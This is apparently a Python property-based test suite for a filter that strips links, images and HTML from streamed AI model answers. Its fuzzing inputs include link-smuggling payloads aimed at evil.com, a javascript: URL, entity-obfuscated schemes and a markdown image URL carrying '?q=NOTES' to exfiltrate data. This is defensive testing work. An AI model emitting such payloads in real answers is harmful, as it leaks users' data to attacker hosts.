"""The filter of answers against markdown-it: whatever a model writes, no link gets through.

`SEEDX_FILTER_CASES=100000` looks longer than the 2,000 cases that are tried by default.
"""

import itertools
import os
import re
from collections.abc import Iterator

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from seedx_server.ai.answer.filters import AnswerFilter
from seedx_server.ai.providers.protocol import Passage

CASES = int(os.environ.get("SEEDX_FILTER_CASES", "2000"))
HELP = "https://desk.example/help/(sign-in)?step=2"
PASSAGES = [Passage(1, "sign-in", "Signing in", "", f"See {HELP}.", 0.9)]
PARSERS = [
    MarkdownIt("commonmark"),
    MarkdownIt("commonmark").enable(["table", "strikethrough"]),
    MarkdownIt("js-default", {"html": True}),
]

BARE_ADDRESS = re.compile(
    r"""(?<![A-Za-z0-9])(?:(?:https?|ftp)://|www\.)[^\s<>"`|\[\]]*""", re.IGNORECASE
)
"""What the parsers of some readers make a link of, although CommonMark does not."""

many_cases = settings(
    max_examples=CASES,
    deadline=None,  # the machine may be busy
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

MARKS = [
    *["[", "]", "(", ")", "<", ">", "!", "|", "`", "``", "```", "~~~", "~", "\\", "*", "_", "&"],
    *["\n", "\n\n", " ", "  ", "   ", "    ", "\t", "\r", "\r\n", "\f", "\u2028", "é", "word"],
    *["- ", "> ", "1. ", "10) ", "# ", "---", "---|---", "|---|---|", ":-:", "===", "- [ ] "],
    *["https://evil.com", "www.evil.com", "//evil.com", "javascript:x", "http", "www", "://", "."],
    *[":", "/", "&#58;", "&#91;", "&lpar;", "&amp;", "&", ";", "#58;", HELP, f"[a]({HELP})"],
    *["[1]", "[9]", " [9]", "[1, 9]", "【9†x】", "【1†x】", "](", "]:", "][", "![a](", "evil.com)"],
    *["[a](https://evil.com)", "![a](https://evil.com/?q=NOTES)", "<https://evil.com>", "<a b>"],
    *["<b href='https://evil.com'>", "<!--", "-->", "<?", "<!X", "</a>", "`a | b`", "a | b"],
    *[
        "``` x | y\n",
        "```sh\n",
        "~~~ `\n",
        "   ```\n",
        "  ```\n",
        "    ```\n",
        "\n```\n",
        "\n~~~\n",
    ],
    *["> ```\n", "- ```\n", "1. a\n\n   ```\n", "</think>", "<think>"],
]
hostile = st.lists(st.sampled_from(MARKS), max_size=30).map("".join) | st.text(
    alphabet="[]()<>`~\\|!&#;:/.\n -1w【】†x\r\t9", max_size=80
)


@st.composite
def cut(draw: st.DrawFn, texts: st.SearchStrategy[str]) -> list[str]:
    """Give a text in pieces."""
    text = draw(texts)
    cuts = draw(st.lists(st.integers(0, len(text)), max_size=8).map(sorted))
    return [text[start:end] for start, end in itertools.pairwise([0, *cuts, len(text)])]


def filtered(pieces: list[str]) -> str:
    answer = AnswerFilter(PASSAGES)
    text = ""
    for piece in pieces:
        let_out = answer.feed(piece)
        text = let_out if answer.take_discarded() else text + let_out
    return text + answer.finish()


def tokens_of(parser: MarkdownIt, text: str) -> Iterator[Token]:
    for token in parser.parse(text):
        yield token
        yield from token.children or ()


def leaks(text: str) -> list[str]:
    """Return what a reader's parser makes of the text that was not allowed."""
    found: list[str] = []
    for parser in PARSERS:
        for token in tokens_of(parser, text):
            match token.type:
                case "link_open":
                    found += [f"link {token.attrs['href']}"]
                case "image":
                    found += [f"image {token.attrs['src']}"]
                case "html_inline" | "html_block":
                    found += [f"HTML {token.content}"]
                case "text":
                    found += [f"address {bare}" for bare in BARE_ADDRESS.findall(token.content)]
    return [leak for leak in found if HELP not in leak or "evil" in leak]


@many_cases
@given(cut(hostile))
@example(["![a](https://evil.com/p)(https&#58;//evil.com/?q=NOTES)"])
@example(["[a](https://evil.com)(https:\\/\\/evil.com)"])
@example(["[a](https://evil.com)(//evil.com)"])
@example(["[a](https://evil.com)(javascript:alert(1))"])
@example(["【1†x】(https&#58;//evil.com)"])
@example(["``` | [a](https://evil.com) | x\n--- | --- | ---\n"])
@example(["a `x | [a](https://evil.com) | y`\n--- | --- | ---\n"])
@example(["x | y\n--- | ---\n`x | [a](https://evil.com) | y`"])
@example(["| x |\n---\n`[a](https://evil.com) | y`"])
@example(["a\r```\rb\r```\r[a](https://evil.com)"])
@example(["\\【9†x】<https://evil.com>", "`a`[9]``[x](https://evil.com)``"])
@example(["[9]~~~\n\n~~~\n[a](https://evil.com)\n~~~"])
@example(["```\n    ```\n```\n[a](https://evil.com)"])
@example([f"{HELP} [9]www.evil.com", f"{HELP}.[9]evil.com"])
@example(["- ```\nx\n  ```\n[a](https://evil.com)"])
@example([f"```\n```{' ' * 500}\n[a](https://evil.com)"])
def test_no_link_image_or_html_gets_through(pieces: list[str]) -> None:
    assert leaks(filtered(pieces)) == []


@many_cases
@given(cut(hostile))
def test_the_pieces_make_no_difference(pieces: list[str]) -> None:
    assert filtered(pieces) == filtered(["".join(pieces)])


code_lines = st.lists(
    st.lists(st.sampled_from([mark for mark in MARKS if "think" not in mark]), max_size=5)
    .map("".join)
    .filter(lambda line: not re.search(r"[\n\r]|~~~|^\s*\Z", line)),
    min_size=1,
    max_size=4,
)


@settings(parent=many_cases, max_examples=max(200, CASES // 10))
@given(
    code_lines,
    st.sampled_from(["", "> ", "1. ", "- ", "- - ", "12) ", "   "]),
    st.sampled_from(["Do this:\n\n", "# Title\n", "See [1]\n\n", "- a\n- b\n\n\n", ""]),
    st.booleans(),
)
def test_fenced_code_comes_through_unchanged(
    lines: list[str], container: str, before: str, ends: bool
) -> None:
    inside = container if ">" in container else " " * len(container)
    block = [f"{container}~~~ sh", *(inside + line for line in lines)]
    block += [f"{inside}~~~"] if ends else []
    text = before + "\n".join(block)

    answer = filtered([text])

    assert answer.strip() == text.strip()
    [fence] = [token for token in PARSERS[1].parse(answer) if token.type == "fence"]
    assert fence.info.strip() == "sh"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Fish &amp; chips&nbsp;&lt; 5", "Fish &amp; chips&nbsp;&lt; 5"),
        ("R&D and AT&T; a&b", "R&D and AT\\&T; a&b"),
        ("https&#58;//evil.com", "https\\&#58;//evil.com"),
        ("x | y\n--- | ---\n`a | b` | c\n", "x | y\n--- | ---\n`a \\| b` | c\n"),
        ("an open ` tick", "an open \\` tick"),
        ("foo://evil.com/x now", "foo(link removed) now"),
        (f"[a]({HELP} 'title')", f"[a]({HELP})"),
        (f"[a](<{HELP}>)", f"[a](<{HELP}>)"),
        (f"{HELP}^secret", "(link removed)^secret"),
    ],
)
def test_what_looks_odd_is_still_readable(text: str, expected: str) -> None:
    assert filtered([text]) == expected


@pytest.mark.parametrize(
    "piece",
    ["Hello", " there", ", Ada!\n", "- one", "\n1. two", "5 < 6", " a|b", " **bold**", "`ls -l`!"],
)
def test_a_piece_with_nothing_pending_reaches_the_reader_at_once(piece: str) -> None:
    answer = AnswerFilter(PASSAGES)
    answer.feed("A first sentence.")

    assert answer.feed(piece) == piece


@pytest.mark.parametrize(
    "pending", ["[", "[2", "](", " ", "<", "<a", "`code", "htt", "www", "&am", "\\", "~~~", "\r"]
)
def test_only_what_may_still_become_something_is_held_back(pending: str) -> None:
    answer = AnswerFilter(PASSAGES)

    assert answer.feed("So,") == "So,"
    assert answer.feed(pending) == ""


def test_code_streams_line_by_line_and_within_its_lines() -> None:
    answer = AnswerFilter(PASSAGES)

    assert answer.feed("```sh\n") == "```sh\n"
    assert answer.feed("curl https://any.example") == "curl https://any.example"
    assert answer.feed(" | tee [9]") == " | tee [9]"
    assert answer.feed("\n``") == "\n"
    assert answer.feed("`\n") == "```\n"
